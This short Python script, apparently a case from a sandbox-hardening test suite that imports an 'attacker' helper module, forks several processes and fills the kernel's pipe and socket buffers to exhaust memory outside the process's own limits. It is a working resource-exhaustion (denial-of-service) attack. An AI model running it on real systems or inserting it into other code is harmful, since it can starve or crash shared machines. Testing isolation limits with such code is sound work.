"""Buffers of the kernel instead of memory of its own: pipes as large as may be, and sockets, all of them full."""

import fcntl
import os
import socket

from attacker import look_around, over

look_around()
block = bytes(1 << 20)
for _ in range(8):
    if os.fork() == 0:
        break
full = 0
try:
    for number in range(400):
        if number % 2:
            out, into = (end.detach() for end in socket.socketpair())
        else:
            out, into = os.pipe()
            try:
                fcntl.fcntl(into, 1031, 1 << 20)
            except OSError:
                pass
        os.set_blocking(into, False)
        try:
            while True:
                full += os.write(into, block)
        except BlockingIOError:
            continue
except OSError as error:
    print("held:", full, "-", error, flush=True)
print("filled", full, "bytes", flush=True)
over()
